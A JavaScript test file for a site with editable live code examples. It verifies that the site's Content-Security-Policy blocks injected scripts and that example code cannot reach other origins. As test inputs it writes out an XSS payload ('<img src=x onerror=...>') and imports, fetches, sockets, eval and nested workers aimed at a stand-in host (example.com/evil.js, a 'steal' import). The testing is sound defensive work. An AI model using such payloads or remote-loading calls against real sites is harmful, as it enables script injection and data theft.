// @ts-check
// The site's Content-Security-Policy and its handling of text from readers and
// examples. Runs against the built site (`astro build` first).
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { openPage, replaceCode, runsOf, siteDir, startSite, waitForRun } from './site.mjs';

/** @type {Awaited<ReturnType<typeof startSite>>} */
let server;
/** @type {Awaited<ReturnType<typeof openPage>>} */
let site;

before(async () => {
  server = await startSite();
  site = await openPage(`${server.url}concepts/`);
});

after(async () => {
  await site?.browser.close();
  await server?.close();
});

describe('content security policy', () => {
  test('every page carries a CSP whose script-src has no unsafe-inline or unsafe-eval', async () => {
    const policy = await site.page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
    assert.ok(policy, 'the page has a CSP <meta>');
    const scriptSrc = policy.split(';').map((part) => part.trim()).find((part) => part.startsWith('script-src'));
    assert.ok(scriptSrc, `script-src in "${policy}"`);
    assert.doesNotMatch(scriptSrc, /'unsafe-inline'|'unsafe-eval'/);
    assert.match(policy, /object-src 'none'/);
  });

  test('an inline script injected into the page does not run', async () => {
    const ran = await site.page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true;';
      document.body.append(script);
      await new Promise((resolve) => setTimeout(resolve, 100));
      return /** @type {{ __injected?: boolean }} */ (window).__injected === true;
    });
    assert.equal(ran, false);
    // The browser reported the blocked script; that is the policy working, not a page problem.
    site.problems.splice(0, site.problems.length, ...site.problems.filter((p) => !p.includes('Content Security Policy')));
  });
});

describe('text from examples', () => {
  test('markup printed by an example is shown as text, not parsed', async () => {
    const { page } = site;
    const figure = page.locator('[data-live-example="self-attention"]');
    await figure.scrollIntoViewIfNeeded();
    await waitForRun(page, 'self-attention', 0);
    const markup = '<img src=x onerror="window.__pwned = true">';
    await replaceCode(page, figure, `import { print, heatmap } from 'live';\nprint(${JSON.stringify(markup)});\nheatmap([[1]], { rows: [${JSON.stringify(markup)}], cols: ['k'] });`);
    const runs = await runsOf(page, 'self-attention');
    await figure.locator('[data-role="run"]').click();
    const result = await waitForRun(page, 'self-attention', runs);
    assert.equal(result.state, 'done', result.status);
    assert.equal(await figure.locator('[data-role="console"] .line').first().textContent(), markup);
    // viz shortens long labels in the picture; its data table keeps the whole text.
    assert.equal(await figure.locator('[data-role="figures"] table.al-data-table tbody th').first().textContent(), markup);
    assert.equal(await figure.locator('img').count(), 0, 'no element was made from the text');
    assert.equal(await page.evaluate(() => /** @type {{ __pwned?: boolean }} */ (window).__pwned === true), false);
    // Leave the page as a reader would find it.
    await figure.locator('[data-role="reset"]').click();
  });

});

describe('example code and other origins', () => {
  const ID = 'self-attention';
  /** Requests that left for another origin: the route answers none of them. */
  const leaving = /** @type {string[]} */ ([]);

  before(async () => {
    const local = new URL(server.url).origin;
    await site.page.context().route(
      (url) => url.origin !== local && url.protocol !== 'data:' && url.protocol !== 'blob:',
      (route) => {
        leaving.push(route.request().url());
        return route.abort();
      },
    );
  });

  after(async () => {
    // Leave the example as a reader would find it.
    await site.page.locator(`[data-live-example="${ID}"] [data-role="reset"]`).click();
  });

  /**
   * Replaces the example's code with `code`, runs it, and returns how it ended and what it printed.
   * @param {string} code
   */
  async function runEdited(code) {
    const { page } = site;
    const figure = page.locator(`[data-live-example="${ID}"]`);
    await figure.scrollIntoViewIfNeeded();
    if (!(await figure.locator('.cm-content').isVisible())) await waitForRun(page, ID, 0);
    await replaceCode(page, figure, code);
    const runs = await runsOf(page, ID);
    await figure.locator('[data-role="run"]').click();
    const result = await waitForRun(page, ID, runs);
    return { ...result, printed: await figure.locator('[data-role="console"] .line').allTextContents() };
  }

  test("import('https://…') and a static import from another origin are refused by name", async () => {
    const allowed = "Examples can import: '@tensorflow/tfjs', '@attention-lab/core', '@attention-lab/datasets', '@attention-lab/models', 'live'.";
    const dynamic = await runEdited("const m = await import('https://example.com/evil.js');\nm.run();");
    assert.equal(dynamic.state, 'error');
    assert.equal(dynamic.status, `Line 1: Error: Cannot import 'https://example.com/evil.js' here. ${allowed}`);
    const computed = await runEdited("const where = ['https:', '', 'example.com', 'evil.js'].join('/');\nawait import(where);");
    assert.equal(computed.status, `Line 2: Error: Cannot import 'https://example.com/evil.js' here. ${allowed}`);
    const staticImport = await runEdited("import { print } from 'live';\nimport { steal } from 'https://example.com/evil.js';\nsteal();");
    assert.equal(staticImport.status, `Line 2: Error: Cannot import 'https://example.com/evil.js' here. ${allowed}`);
  });

  test("export * from 'https://…' is refused before the code runs", async () => {
    const result = await runEdited("import { print } from 'live';\nexport * from 'https://example.com/evil.js';\nprint('ran');");
    assert.equal(result.state, 'error');
    assert.equal(result.errorLine, '2');
    assert.equal(
      result.status,
      "Line 2: SyntaxError: export … from 'https://example.com/evil.js' cannot run here: examples export nothing, and import names only from the modules they are given",
    );
    assert.deepEqual(result.printed, []);
  });

  test('fetch, XMLHttpRequest, WebSocket, EventSource and importScripts to another origin are refused, naming the call', async () => {
    const origin = new URL(server.url).origin;
    const fetched = await runEdited("const response = await fetch('https://example.com/data.json');\nconsole.log(await response.text());");
    assert.equal(fetched.state, 'error');
    assert.equal(fetched.status, `Line 1: SecurityError: fetch('https://example.com/data.json') is refused: example code can only reach this site (${origin})`);
    const others = await runEdited(
      [
        "import { print } from 'live';",
        'const attempts = {',
        "  'XMLHttpRequest.open': () => new XMLHttpRequest().open('GET', 'https://example.com/x'),",
        "  'new WebSocket': () => new WebSocket('wss://example.com/socket'),",
        "  'new EventSource': () => new EventSource('https://example.com/events'),",
        "  'new Request': () => fetch(new Request('https://example.com/request')),",
        "  importScripts: () => self.importScripts('https://example.com/classic.js'),",
        '};',
        'for (const [call, attempt] of Object.entries(attempts)) {',
        '  try {',
        '    await attempt();',
        '    print(`${call}: reached`);',
        '  } catch (error) {',
        '    print(`${call}: ${error.name}: ${error.message}`);',
        '  }',
        '}',
      ].join('\n'),
    );
    assert.equal(others.state, 'done', others.status);
    assert.deepEqual(others.printed, [
      `XMLHttpRequest.open: SecurityError: XMLHttpRequest.open('https://example.com/x') is refused: example code can only reach this site (${origin})`,
      `new WebSocket: SecurityError: new WebSocket('wss://example.com/socket') is refused: example code can only reach this site (${origin})`,
      `new EventSource: SecurityError: new EventSource('https://example.com/events') is refused: example code can only reach this site (${origin})`,
      `new Request: SecurityError: fetch('https://example.com/request') is refused: example code can only reach this site (${origin})`,
      `importScripts: SecurityError: importScripts('https://example.com/classic.js') is refused: example code can only reach this site (${origin})`,
    ]);
  });

  /** The built example worker's file in `dist/_astro/`. */
  let exampleWorkerScript = '';
  before(async () => {
    exampleWorkerScript = (await readdir(join(siteDir, 'dist', '_astro'))).find((name) => /^example-worker-.*\.js$/.test(name)) ?? '';
    assert.ok(exampleWorkerScript, 'the build has an example worker');
  });

  test("past the worker's own checks, the page's policy governs it: eval and a nested worker reach nothing, and the worker started from its URL runs nothing", async () => {
    const result = await runEdited(
      [
        "import { print } from 'live';",
        'const outcome = async (attempt) => {',
        '  try {',
        '    return `reached: ${await attempt()}`;',
        '  } catch (error) {',
        '    return `${error.name}`;',
        '  }',
        '};',
        "print('eval', await outcome(() => new Function('return import(\"https://example.com/eval.js\")')()));",
        '// A worker of its own, with a fresh fetch and import() that nothing here has wrapped.',
        'const nested = [',
        "  'const tries = [fetch(\"https://example.com/nested.json\"), import(\"https://example.com/nested.js\")];',",
        "  'Promise.allSettled(tries).then((all) => postMessage(all.map((r) => r.status + \" \" + (r.reason?.name ?? \"\"))));',",
        "].join('\\n');",
        "const worker = new Worker(URL.createObjectURL(new Blob([nested], { type: 'text/javascript' })), { type: 'module' });",
        "print('nested', (await new Promise((resolve) => (worker.onmessage = (event) => resolve(event.data)))).join(', '));",
        'worker.terminate();',
        "// This site's own example worker, started from its URL, would have no policy: it refuses to run anything.",
        `const script = ${JSON.stringify(new URL(`_astro/${exampleWorkerScript}`, server.url).href)};`,
        "const escaped = new Worker(script, { type: 'module' });",
        "escaped.postMessage({ type: 'run', id: 1, code: \"await fetch('https://example.com/escaped.json');\", inputs: {}, backend: 'cpu' });",
        "const reply = await new Promise((resolve) => (escaped.onmessage = (event) => resolve(event.data)));",
        "print('url worker', reply.type, reply.name, reply.message.replace(/http\\S+/, '<url>'));",
        'escaped.terminate();',
      ].join('\n'),
    );
    assert.equal(result.state, 'done', result.status);
    assert.deepEqual(result.printed, [
      'eval EvalError',
      'nested rejected TypeError, rejected TypeError',
      'url worker error SecurityError This worker runs example code only when the page starts it under its security policy, from a blob: URL; it was started from <url>',
    ]);
  });

  test('no request left for another origin', () => {
    assert.deepEqual(leaving, []);
  });
});

describe('the page after the tests above', () => {
  test('no page errors, console errors or failed requests', () => {
    // What the policy blocked (reported on the console, and as requests failed with 'csp') is the policy working.
    const blocked = (/** @type {string} */ problem) => problem.includes('Content Security Policy') || / \(csp\)$/.test(problem);
    assert.deepEqual(site.problems.filter((problem) => !blocked(problem)), []);
  });
});
